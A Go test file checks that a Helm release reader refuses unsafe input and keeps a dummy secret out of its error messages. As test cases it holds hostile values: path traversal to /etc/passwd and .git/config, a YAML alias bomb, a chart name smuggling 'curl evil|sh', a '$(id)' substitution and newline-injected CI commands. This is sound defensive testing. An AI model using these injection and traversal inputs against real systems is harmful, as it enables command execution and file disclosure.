package chart_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/seed-428f4edd/evenkeel/render/chart"
)

// TestReadRelease takes a release as Helm stores it, and refuses what would lead out of
// the chart or is not a release; the errors quote nothing of the content.
func TestReadRelease(t *testing.T) {
	release := func(change func(map[string]any)) []byte {
		r := map[string]any{
			"name": "shop", "namespace": "prod", "version": 3, "info": map[string]any{"status": "deployed"},
			"config":   map[string]any{"password": "s3cret", "big": json.Number("9007199254740993")},
			"manifest": "---\n# Source: x\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\n",
			"chart": map[string]any{
				"metadata":  map[string]any{"name": "web", "version": "1.0.0", "apiVersion": "v2", "dependencies": []any{map[string]any{"name": "db"}}},
				"templates": []any{map[string]any{"name": "templates/a.yaml", "data": []byte("kind: ConfigMap")}},
				"values":    map[string]any{"password": ""},
			},
		}
		change(r)
		data, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	r, err := chart.ReadRelease(release(func(map[string]any) {}))
	if err != nil {
		t.Fatal(err)
	}
	if r.Revision != 3 || r.Status != "deployed" || r.Chart != "web" || len(r.Objects) != 1 || len(r.SubCharts) != 1 || r.Values["big"] != int64(9007199254740993) {
		t.Errorf("read %+v", r)
	}
	if string(r.Files["values.yaml"]) != "password: \"\"\n" || string(r.Files["templates/a.yaml"]) != "kind: ConfigMap" {
		t.Errorf("files %q", r.Files)
	}

	template := func(name string) func(map[string]any) {
		return func(r map[string]any) {
			r["chart"].(map[string]any)["templates"] = []any{map[string]any{"name": name, "data": []byte("x")}}
		}
	}
	for name, data := range map[string][]byte{
		"not JSON":     []byte(`{"name": "s3cret`),
		"another type": []byte(`{"name": {"s3cret": 1}}`),
		"no chart":     []byte(`{"name": "shop"}`),
		"a list":       release(func(r map[string]any) { r["manifest"] = "- s3cret" }),
		"not YAML":     release(func(r map[string]any) { r["manifest"] = "a: [s3cret" }),
		"aliases": release(func(r map[string]any) {
			r["manifest"] = "a: &a [s3cret]\nb: &b [" + strings.Repeat("*a,", 2000) + "]\nc: [" + strings.Repeat("*b,", 2000) + "]"
		}),
		"leads out":      release(template("../../etc/passwd")),
		"absolute":       release(template("/etc/passwd")),
		"a backslash":    release(template(`a\b`)),
		"git's own":      release(template("a/.GIT/config")),
		"a git link":     release(template(".git")),
		"a line":         release(template("a\n.yaml")),
		"the root":       release(template(".")),
		"an empty name":  release(template("")),
		"a control byte": release(template("a\x00b")),
	} {
		t.Run(name, func(t *testing.T) {
			if r, err := chart.ReadRelease(data); err == nil || strings.Contains(err.Error(), "s3cret") {
				t.Errorf("%+v, %v", r, err)
			}
		})
	}
}

// TestReleaseNames refuses a chart whose name or version would be another directory, or
// another command than the one that is proposed.
func TestReleaseNames(t *testing.T) {
	for _, c := range []struct{ name, version, part, says string }{
		{"web", "v1.0.0-rc.1+b", "db", ""},
		{"../../.ci", "1.0.0", "db", `chart.metadata.name: "../../.ci"`},
		{"..", "1.0.0", "db", "chart.metadata.name"},
		{".git", "1.0.0", "db", "chart.metadata.name"},
		{"-rf", "1.0.0", "db", "chart.metadata.name"},
		{"x;curl evil|sh #", "1.0.0", "db", "chart.metadata.name"},
		{"x\n::error::y", "1.0.0", "db", `"x\n::error::y"`},
		{"", "1.0.0", "db", "chart.metadata.name"},
		{"web", "1.0.0/../../x", "db", "chart.metadata.version"},
		{"web", "1.0.0 $(id)", "db", "chart.metadata.version"},
		{"web", "", "db", "chart.metadata.version"},
		{"web", "1.0.0", "x\nhint: run this", "chart.metadata.dependencies[0].name"},
	} {
		data, err := json.Marshal(map[string]any{"name": "shop", "chart": map[string]any{"metadata": map[string]any{
			"name": c.name, "version": c.version, "dependencies": []any{map[string]any{"name": c.part}},
		}}})
		if err != nil {
			t.Fatal(err)
		}
		_, err = chart.ReadRelease(data)
		if c.says == "" && err != nil || c.says != "" && (err == nil || !strings.Contains(err.Error(), c.says)) {
			t.Errorf("%q %q %q: %v, want %q", c.name, c.version, c.part, err, c.says)
		}
	}
}
